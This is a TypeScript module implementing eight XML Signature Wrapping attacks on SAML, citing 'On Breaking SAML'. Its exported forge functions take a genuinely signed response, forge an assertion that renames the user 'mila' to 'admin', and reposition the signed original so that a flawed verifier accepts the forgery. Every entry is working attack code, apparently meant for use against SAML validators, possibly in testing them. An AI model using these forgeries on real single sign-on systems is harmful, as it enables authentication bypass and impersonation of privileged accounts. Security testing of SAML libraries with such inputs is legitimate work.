/** One way to put a forged assertion where a careless reader looks, while the signature is still over the true one ("On Breaking SAML", 2012). */
export interface WrappingAttack {
  readonly name: string;
  /** @param xml a response that is rightly signed, and in it the text that is to be another */
  readonly forge: (xml: string) => string;
}

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
const ASSERTION = /<saml:Assertion .*?<\/saml:Assertion>/s;
const BODY = /^(<samlp:Response [^>]*>)(.*)(<\/samlp:Response>)$/s;

function pieces(xml: string) {
  const assertion = ASSERTION.exec(xml)?.[0] ?? '';
  const signature = SIGNATURE.exec(xml)?.[0] ?? '';
  const plain = assertion.replace(SIGNATURE, '');
  return { assertion, signature, plain, forged: forgedOf(plain) };
}

/** Somebody else, under another id. */
function forgedOf(assertion: string): string {
  return assertion.replace('>mila<', '>admin<').replace(/ ID="[^"]*"/, ' ID="_forged"');
}

function inside(element: string, content: string): string {
  return element.replace(/(<\/saml:Assertion>)$/, `${content}$1`);
}

function afterIssuer(assertion: string, content: string): string {
  return assertion.replace('</saml:Issuer>', `</saml:Issuer>${content}`);
}

function within(signature: string, content: string): string {
  return signature.replace('</ds:Signature>', `${content}</ds:Signature>`);
}

/** Wrapping of a response that is signed as a whole. */
export const responseWrappings: readonly WrappingAttack[] = [
  {
    name: 'XSW1: the true response inside the signature of a forged one',
    forge: (xml) => {
      const { signature } = pieces(xml);
      const original = xml.replace(SIGNATURE, '');
      const forged = forgedOf(original)
        .replace(SIGNATURE, '')
        .replace('<saml:Issuer>', `${within(signature, original)}<saml:Issuer>`);
      return forged;
    },
  },
  {
    name: 'XSW2: the true response beside the signature in a forged one',
    forge: (xml) => {
      const { signature } = pieces(xml);
      const original = xml.replace(SIGNATURE, '');
      return forgedOf(original).replace('<saml:Issuer>', `${original}${signature}<saml:Issuer>`);
    },
  },
];

/** Wrapping of an assertion that is signed by itself. */
export const assertionWrappings: readonly WrappingAttack[] = [
  {
    name: 'XSW3: a forged assertion before the true one',
    forge: (xml) => xml.replace(ASSERTION, `${pieces(xml).forged}${pieces(xml).assertion}`),
  },
  {
    name: 'XSW3: a forged assertion behind the true one',
    forge: (xml) => xml.replace(ASSERTION, `${pieces(xml).assertion}${pieces(xml).forged}`),
  },
  {
    name: 'XSW4: the true assertion inside a forged one',
    forge: (xml) => xml.replace(ASSERTION, inside(pieces(xml).forged, pieces(xml).assertion)),
  },
  {
    name: 'XSW5: the signature in a forged assertion, the true one at the end',
    forge: (xml) => {
      const { forged, signature, plain } = pieces(xml);
      return xml.replace(ASSERTION, `${afterIssuer(forged, signature)}${plain}`);
    },
  },
  {
    name: 'XSW6: the true assertion inside the signature of a forged one',
    forge: (xml) => {
      const { forged, signature, plain } = pieces(xml);
      return xml.replace(ASSERTION, afterIssuer(forged, within(signature, plain)));
    },
  },
  {
    name: 'XSW7: a forged assertion in an extension',
    forge: (xml) => xml.replace(BODY, `$1<samlp:Extensions>${pieces(xml).forged}</samlp:Extensions>$2$3`),
  },
  {
    name: 'XSW8: the true assertion in an object of the signature of a forged one',
    forge: (xml) => {
      const { forged, signature, plain } = pieces(xml);
      const object = `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${plain}</ds:Object>`;
      return xml.replace(ASSERTION, afterIssuer(forged, within(signature, object)));
    },
  },
];
